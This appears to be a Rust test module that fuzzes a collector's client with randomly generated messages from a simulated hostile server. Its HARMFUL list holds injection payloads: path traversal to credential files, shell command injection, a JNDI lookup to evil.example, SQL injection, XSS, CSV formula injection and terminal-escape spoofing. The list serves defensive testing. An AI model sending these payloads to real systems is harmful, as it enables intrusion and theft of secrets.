//! What a hostile server says: every message of the protocol that a server can send, each field filled by chance.
//!
//! Everything comes from a seed, the name of what is said and how often that was said before, so that the same seed says the same
//! however fast the collector asks. Messages are spelled out whole: a field that is added to one stops this from compiling.

use std::fmt::Debug;
use std::sync::Arc;

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::strategy::{Union, ValueTree as _};
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use sha2::{Digest as _, Sha256};
use sickbay_diagnosis::Check;
use sickbay_proto::limits::{DIGEST_BYTES, EPOCH_BYTES};
use sickbay_proto::v1;
use sickbay_proto::v1::error_detail::Reason;

/// Length of a mark, in bytes.
const MARK_BYTES: usize = 32;

/// Chance, for one thing that is said.
pub(crate) struct Dice(TestRunner);

impl Dice {
    pub(crate) fn new(seed: u64, what: &str, nth: usize) -> Self {
        let mut hash = Sha256::new();
        hash.update(seed.to_le_bytes());
        hash.update((nth as u64).to_le_bytes());
        hash.update(what);
        let rng = TestRng::from_seed(RngAlgorithm::ChaCha, &hash.finalize());
        let config = Config {
            failure_persistence: None,
            ..Config::default()
        };
        Self(TestRunner::new_with_rng(config, rng))
    }

    pub(crate) fn throw<T: Debug>(&mut self, of: impl Strategy<Value = T>) -> T {
        of.new_tree(&mut self.0)
            .expect("no strategy here refuses what it made")
            .current()
    }

    /// True once in so many throws.
    pub(crate) fn once_in(&mut self, throws: u32) -> bool {
        self.throw(0..throws) == 0
    }

    pub(crate) fn bytes(&mut self, most: usize) -> Vec<u8> {
        self.throw(vec(any::<u8>(), 0..=most))
    }

    pub(crate) fn text(&mut self, words: &Words) -> String {
        self.throw(words.text())
    }

    /// Letters and digits, as in a name that a collector has no reason to refuse.
    pub(crate) fn plain_name(&mut self) -> String {
        hex::encode(self.throw(any::<[u8; 16]>()))
    }
}

/// What a server learned of the collector in a session, so that some of what it says can be believed.
#[derive(Debug, Clone, Default)]
pub(crate) struct Known {
    pub(crate) epoch: Vec<u8>,
    pub(crate) sequence: u64,
    pub(crate) digest: Vec<u8>,
}

/// Texts that somewhere did harm: they name files, registry keys and commands, or command terminals.
const HARMFUL: [&str; 44] = [
    "",
    ".",
    "..",
    "/",
    "\\",
    "../../etc/passwd",
    "..\\..\\..\\Windows\\System32\\config\\SAM",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\?\\C:\\pagefile.sys",
    "\\\\evil.example\\share\\run.exe",
    "HKLM\\SAM\\SAM\\Domains\\Account\\Users",
    "HKLM\\SECURITY\\Policy\\Secrets",
    "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "file:///etc/shadow",
    "https://evil.example/update.exe",
    "identity.json",
    "spool/00000000000000000001.report",
    "key.pem",
    "NUL",
    "CON",
    "pause\0",
    "pause\0.exe",
    "PAUSE",
    " pause ",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "| powershell -enc AAAA",
    "& calc.exe &",
    "%windir%\\System32\\calc.exe",
    "%s%s%s%n",
    "{0} {} {:?} ${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "first\nsecond",
    "ok\r\n2026-01-01T00:00:00.000000Z  INFO session established server=https://forged.example",
    "\u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{9b}31m\u{9d}0;title\u{9c}",
    "\u{8}\u{8}\u{8}\u{7f}\u{c}\u{b}\t",
    "\u{202e}fdp.exe\u{202c}\u{2066}\u{2069}\u{200f}\u{061c}",
    "\u{feff}\u{200b}\u{ad}\u{2028}\u{2029}",
    "\u{e0041}\u{fff9}\u{fffb}",
    "e\u{301}\u{301}\u{301}\u{1f468}\u{200d}\u{1f469}",
];

/// What texts are made of.
#[derive(Debug, Clone)]
pub(crate) struct Words(Arc<[String]>);

impl Words {
    /// With `bait`, which names files that the test watches.
    pub(crate) fn new(bait: Vec<String>) -> Self {
        Self(HARMFUL.map(str::to_owned).into_iter().chain(bait).collect())
    }

    fn text(&self) -> BoxedStrategy<String> {
        let words = Arc::clone(&self.0);
        let known = (0..words.len()).prop_map(move |at| words[at].clone());
        let path = vec(select(b"aZ.:/\\%_ -".as_slice()), 1..80);
        // A few bytes each.
        let long = (any::<char>(), 300_usize..70_000);
        prop_oneof![
            6 => known,
            2 => path.prop_map(|path| path.into_iter().map(char::from).collect()),
            2 => vec(any::<char>(), 0..60).prop_map(String::from_iter),
            1 => long.prop_map(|(c, times)| c.to_string().repeat(times)),
        ]
        .boxed()
    }
}

fn unsigned() -> BoxedStrategy<u64> {
    let edges = select(vec![0, 1, 2, u64::MAX, u64::MAX - 1, 1 << 63, 1 << 32]);
    prop_oneof![edges, any::<u64>()].boxed()
}

fn signed() -> BoxedStrategy<i64> {
    prop_oneof![
        select(vec![0, 1, -1, i64::MAX, i64::MIN, i64::MAX - 1]),
        any::<i64>()
    ]
    .boxed()
}

fn small() -> BoxedStrategy<u32> {
    prop_oneof![select(vec![0, 1, u32::MAX, 1 << 31]), any::<u32>()].boxed()
}

/// Bytes where `right` many are expected.
fn bytes(right: usize, known: &[u8]) -> BoxedStrategy<prost::bytes::Bytes> {
    prop_oneof![
        3 => Just(known.to_vec()),
        2 => vec(any::<u8>(), right),
        1 => Just(Vec::new()),
        1 => select(vec![right - 1, right + 1, 1, 5000])
            .prop_flat_map(|length| vec(any::<u8>(), length)),
    ]
    .prop_map(Into::into)
    .boxed()
}

fn sequence(known: &Known) -> BoxedStrategy<u64> {
    let near = known.sequence;
    prop_oneof![
        2 => Just(near),
        1 => Just(near.saturating_add(1)),
        1 => Just(near.saturating_sub(1)),
        2 => unsigned(),
    ]
    .boxed()
}

/// What names the certificates that are issued now: mostly one of a few, so that a collector has what is wished, and is wished another.
pub(crate) fn mark() -> BoxedStrategy<prost::bytes::Bytes> {
    let few = select(vec![vec![], vec![1; MARK_BYTES], vec![2; MARK_BYTES]]);
    prop_oneof![4 => few.prop_map(Into::into), 1 => bytes(MARK_BYTES, &[])].boxed()
}

fn settings() -> BoxedStrategy<v1::Settings> {
    (small(), small(), mark(), prop_oneof![Just(0), small()])
        .prop_map(
            |(inspection_interval_s, heartbeat_interval_s, identity_mark, renew_within_s)| {
                v1::Settings {
                    inspection_interval_s,
                    heartbeat_interval_s,
                    identity_mark,
                    renew_within_s,
                }
            },
        )
        .boxed()
}

fn welcome(known: &Known) -> BoxedStrategy<v1::Welcome> {
    (
        signed(),
        bytes(EPOCH_BYTES, &known.epoch),
        sequence(known),
        bytes(DIGEST_BYTES, &known.digest),
        prop::option::of(settings()),
    )
        .prop_map(
            |(server_time_ms, epoch, sequence, digest, settings)| v1::Welcome {
                server_time_ms,
                epoch,
                sequence,
                digest,
                settings,
            },
        )
        .boxed()
}

/// A welcome that the collector has to believe, because it says what its hello said.
pub(crate) fn agreeing_welcome(known: &Known) -> BoxedStrategy<v1::Welcome> {
    let known = known.clone();
    (signed(), prop::option::of(settings()))
        .prop_map(move |(server_time_ms, settings)| v1::Welcome {
            server_time_ms,
            epoch: known.epoch.clone().into(),
            sequence: known.sequence,
            digest: known.digest.clone().into(),
            settings,
        })
        .boxed()
}

fn ack(known: &Known) -> BoxedStrategy<v1::Ack> {
    (bytes(EPOCH_BYTES, &known.epoch), sequence(known))
        .prop_map(|(epoch, sequence)| v1::Ack { epoch, sequence })
        .boxed()
}

fn inspect_now(words: &Words) -> BoxedStrategy<v1::InspectNow> {
    let names: Vec<&str> = Check::ALL.iter().map(|check| check.name()).collect();
    let name = prop_oneof![select(names).prop_map(str::to_owned), words.text()];
    prop_oneof![
        4 => vec(name.clone(), 0..5),
        1 => vec(name, 60..70),
    ]
    .prop_map(|checks| v1::InspectNow { checks })
    .boxed()
}

fn request(words: &Words) -> BoxedStrategy<v1::Request> {
    use v1::request::Kind;
    let kind = prop_oneof![
        4 => inspect_now(words).prop_map(|now| Some(Kind::InspectNow(now))),
        1 => Just(None),
    ];
    (words.text(), kind)
        .prop_map(|(request_id, kind)| v1::Request { request_id, kind })
        .boxed()
}

fn full_wanted(words: &Words) -> BoxedStrategy<v1::FullWanted> {
    words
        .text()
        .prop_map(|reason| v1::FullWanted { reason })
        .boxed()
}

/// Anything that may come down in a session.
pub(crate) fn server_message(known: &Known, words: &Words) -> BoxedStrategy<v1::ServerMessage> {
    use v1::server_message::Kind;
    let kinds: [BoxedStrategy<Option<Kind>>; 6] = [
        welcome(known)
            .prop_map(|welcome| Some(Kind::Welcome(welcome)))
            .boxed(),
        ack(known).prop_map(|ack| Some(Kind::Ack(ack))).boxed(),
        settings()
            .prop_map(|settings| Some(Kind::Settings(settings)))
            .boxed(),
        request(words)
            .prop_map(|request| Some(Kind::Request(request)))
            .boxed(),
        full_wanted(words)
            .prop_map(|wanted| Some(Kind::FullWanted(wanted)))
            .boxed(),
        Just(None).boxed(),
    ];
    Union::new(kinds)
        .prop_map(|kind| v1::ServerMessage { kind })
        .boxed()
}

/// Asks again after so long, or after a time that no device lives to see.
pub(crate) fn pending(device_id: String, for_ever: bool) -> BoxedStrategy<v1::Pending> {
    let retry_after_ms = wait(for_ever);
    retry_after_ms
        .prop_map(move |retry_after_ms| v1::Pending {
            device_id: device_id.clone(),
            retry_after_ms,
        })
        .boxed()
}

fn wait(for_ever: bool) -> BoxedStrategy<u64> {
    if for_ever {
        select(vec![u64::MAX, u64::MAX / 2, i64::MAX as u64, 1 << 40]).boxed()
    } else {
        select(vec![0, 1, 5]).boxed()
    }
}

/// Every reason that the protocol knows.
pub(crate) fn reasons() -> Vec<Reason> {
    (0..1000)
        .filter_map(|number| Reason::try_from(number).ok())
        .collect()
}

/// Reasons that make a collector call again at once.
const LEADS_ON: [Reason; 3] = [
    Reason::CertificateEnded,
    Reason::KeyEnded,
    Reason::DeviceUnknown,
];

/// What stands in the trailer of the refusal of that number: one reason after the other, every third time one that leads on, and now and
/// then none that is known.
pub(crate) fn error_detail(nth: usize, for_ever: bool) -> BoxedStrategy<v1::ErrorDetail> {
    let reasons = reasons();
    let known = if nth.is_multiple_of(3) {
        LEADS_ON[nth / 3 % LEADS_ON.len()]
    } else {
        reasons[(nth - nth / 3) % reasons.len()]
    };
    let known = Just(known.into());
    let reason = prop_oneof![9 => known, 1 => any::<i32>()];
    (reason, wait(for_ever))
        .prop_map(|(reason, retry_after_ms)| v1::ErrorDetail {
            reason,
            retry_after_ms,
        })
        .boxed()
}

/// What the hostile server has said at least once where everything above is reached. A kind that is added to the protocol stops
/// the functions below from compiling; its name here then makes the test fail until it is said.
pub(crate) const SAID: [&str; 14] = [
    "message: nothing",
    "message: welcome",
    "message: ack",
    "message: settings",
    "message: request",
    "message: full wanted",
    "request: nothing",
    "request: inspect now",
    "enrol: nothing",
    "enrol: issued",
    "enrol: pending",
    "renew: certificate",
    "recover: certificate",
    "goodbye: answer",
];

/// Under which names of [`SAID`] a message counts.
pub(crate) fn names_of(message: &v1::ServerMessage) -> Vec<&'static str> {
    use v1::server_message::Kind;
    match &message.kind {
        None => vec!["message: nothing"],
        Some(Kind::Welcome(_)) => vec!["message: welcome"],
        Some(Kind::Ack(_)) => vec!["message: ack"],
        Some(Kind::Settings(_)) => vec!["message: settings"],
        Some(Kind::Request(request)) => vec![
            "message: request",
            match &request.kind {
                None => "request: nothing",
                Some(v1::request::Kind::InspectNow(_)) => "request: inspect now",
            },
        ],
        Some(Kind::FullWanted(_)) => vec!["message: full wanted"],
    }
}

/// The same for an answer to an enrolment.
pub(crate) const fn name_of_enrolment(answer: &v1::EnrolResponse) -> &'static str {
    use v1::enrol_response::Outcome;
    match &answer.outcome {
        None => "enrol: nothing",
        Some(Outcome::Issued(_)) => "enrol: issued",
        Some(Outcome::Pending(_)) => "enrol: pending",
    }
}
